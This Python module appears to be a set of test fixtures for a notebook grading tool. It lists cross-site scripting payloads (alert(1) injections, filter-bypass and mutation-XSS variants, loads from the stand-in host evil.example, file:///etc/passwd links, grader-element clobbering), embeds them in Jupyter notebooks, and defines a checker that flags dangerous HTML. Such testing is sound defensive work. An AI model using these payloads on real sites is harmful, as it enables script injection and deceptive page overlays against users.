"""What students write so that somebody's browser does something: texts, and whole notebooks.

Each does `alert(1)`, loads from `evil.example` or covers what is the page's, if it works.
"""

from __future__ import annotations

import base64
import re
from html.parser import HTMLParser

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

RUN = "javascript:alert(1)"
PAGE = base64.b64encode(b"<script>alert(1)</script>").decode()
PICTURE = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

MARKDOWN = [
    # addresses
    f"[x]({RUN})",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](&<!-- -->#106;avascript:alert(1))",
    "[x](&amp<!-- -->;#106;avascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript\t:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](vbscript:msgbox(1))",
    f"[x](data:text/html;base64,{PAGE})",
    f"[x](data:image/svg+xml;base64,{PICTURE})",
    "[x](file:///etc/passwd)",
    "[x](blob:alert)",
    "[x](//evil.example/x)",
    "[x](evil.html)",
    "[x](../../other/evil.svg)",
    f"[x]: {RUN}\n\n[x]",
    f"[x]:\n  <{RUN}>\n  'title'\n\n[x]",
    f"<{RUN}>",
    f"![x]({RUN})",
    "![x](http://evil.example/x.png)",
    "![x](/logout)",
    f"[![x](x.png)]({RUN})",
    f"# [x]({RUN})",
    f"| [x]({RUN}) |\n|---|\n| [y]({RUN}) |",
    f"- [ ] [x]({RUN})",
    # tags
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><a xlink:href='{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><animate attributeName=href values={RUN} /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    f"<math><maction actiontype=statusline xlink:href='{RUN}'>x</maction></math>",
    f"<math href='{RUN}'><mtext>x</mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    f"<a href='{RUN}'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='https://example.org' onclick='alert(1)'>x</a>",
    f"<a href='https://example.org' ping='http://evil.example'>x</a><area href='{RUN}'>",
    "<b onmouseover=alert(1) onfocus=alert(1) autofocus tabindex=1>x</b>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe src='{RUN}'></iframe>",
    f"<object data='{RUN}'></object><embed src='{RUN}'>",
    f"<object data='data:text/html;base64,{PAGE}'></object>",
    "<style>body{display:none}</style>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<p style='background:url(http://evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>x</p>",
    f"<meta http-equiv=refresh content='0;url={RUN}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    f"<form action='{RUN}'><button>x</button></form>",
    f"<form id=f></form><button form=f formaction='{RUN}'>x</button>",
    "<input id=test_pool class=score value=9 onfocus=alert(1) autofocus>",
    "<textarea class=comment></textarea><select><option>x</select>",
    f"<isindex action='{RUN}'><keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<video poster=http://evil.example/x.png src=http://evil.example/x.mp4></video>",
    "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<x-a is=button onclick=alert(1)>x</x-a>",
    "<b id=test_pool>x</b><img name=getElementById src=x>",
    "<b id=formgrader><b id=notebook-container>x</b></b>",
    "<div class='score tabbable mark-graded' data-toggle=tooltip data-link=x>x</div>",
    # not what they seem
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "`<script>`<script>alert(1)</script>",
    "```html\n</pre><script>alert(1)</script>\n```",
    "```mermaid\ngraph TD\n A[<img src=x onerror=alert(1)>]\n```",
    "```<script>alert(1)</script>\nx\n```",
    "</div></div></div></main></body><script>alert(1)</script>",
    "{{ ''.__class__ }}{% include '/etc/passwd' %}",
    # formulas
    f"$\\href{{{RUN}}}{{x}}$",
    f"$$\\def\\h{{\\href}}\\h{{{RUN}}}{{x}}$$",
    f"$\\h<b></b>ref{{{RUN}}}{{x}}$",
    f"\\begin{{align}}\\href{{{RUN}}}{{x}}\\end{{align}}",
    "$\\class{score}{\\cssId{test_pool}{x}}\\style{position:fixed}{y}$",
    "$\\unicode[url(http://evil.example)]{x26}\\require{html}$",
    "$<img src=x onerror=alert(1)>$",
    "$x$<script>alert(1)</script>$y$",
]

_DATA = {
    "text/html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "application/javascript": "alert(1)",
    "text/markdown": f"[x]({RUN})<script>alert(1)</script>",
    "text/latex": f"$\\href{{{RUN}}}{{x}}$<script>alert(1)</script>",
    "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"},
    "image/png": '"><script>alert(1)</script>',
    "text/plain": "<script>alert(1)</script>",
}


def _outputs() -> list:
    found = [new_output("display_data", data={kind: text}) for kind, text in _DATA.items()]
    found += [new_output("execute_result", data={kind: text}) for kind, text in _DATA.items()]
    found += [
        new_output(
            "stream", text="\x1b[31m<script>alert(1)</script>\x1b]8;;javascript:alert(1)\x07"
        ),
        new_output(
            "error",
            ename="<script>alert(1)</script>",
            evalue="<img src=x onerror=alert(1)>",
            traceback=["\x1b[0;31m<script>alert(1)</script>", f"<a href='{RUN}'>x</a>"],
        ),
    ]
    return found


def _with_attachment(kind: str, content: str):
    return new_markdown_cell("![x](attachment:x)", attachments={"x": {kind: content}})


NOTEBOOKS = [
    new_notebook(cells=[new_code_cell("x", outputs=[output])]) for output in _outputs()
] + [
    new_notebook(cells=[new_code_cell(source)])
    for source in (
        "%%html\n<script>alert(1)</script>",
        "%%javascript\nalert(1)",
        "</pre></div><script>alert(1)</script>",
        f"# {RUN} <img src=x onerror=alert(1)>",
    )
]
NOTEBOOKS += [
    new_notebook(cells=[_with_attachment("image/svg+xml", PICTURE)]),
    new_notebook(cells=[_with_attachment("text/html", PAGE)]),
    new_notebook(cells=[_with_attachment("image/png", '"><script>alert(1)</script>')]),
    new_notebook(cells=[new_raw_cell(text, metadata={"format": "text/html"}) for text in MARKDOWN]),
    new_notebook(
        cells=[new_code_cell("x")],
        metadata={
            "widgets": {"application/vnd.jupyter.widget-state+json": "</script><script>alert(1)"}
        },
    ),
]

TAGS = {"script", "iframe", "object", "embed", "style", "link", "meta", "base", "form", "button"}
TAGS |= {"input", "textarea", "select", "svg", "math", "video", "audio", "template", "area"}


class _Page(HTMLParser):
    """What of a page's notebook could do harm, tag by tag."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        whole = self.get_starttag_text() or ""
        for name, value in attrs:
            value = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name.startswith("data-") or name in ("ping", "srcdoc"):
                self.found.append(whole)
            own = (tag, name) == ("a", "name")  # nbgrader's, before each graded cell
            if (
                name in ("id", "name")
                and not own
                and value in ("test_pool", "formgrader", "getelementbyid")
            ):
                self.found.append(whole)
            if name == "class" and {"score", "mark-graded", "mermaid"} & set(value.split()):
                self.found.append(whole)
            if name == "style" and not value.startswith("text-align"):
                self.found.append(whole)
            allowed = r"data:image/(png|jpeg|gif|webp|svg\+xml);base64,|[\w.-]+$"
            if name == "src" and not re.match(allowed, value):
                self.found.append(whole)
            if name in ("href", "xlink:href", "action", "data", "formaction"):
                if not re.match(r"https?://|mailto:|#", value):
                    self.found.append(whole)
        if tag in TAGS:
            self.found.append(whole)


def harmful(page: str) -> list[str]:
    """The tags of a page's body that could do something, whatever its head does.

    Parameters
    ----------
    page
        In HTML.
    """
    parser = _Page()
    body = page[page.find("<body") :] if "<body" in page else page
    parser.feed(body)
    return parser.found
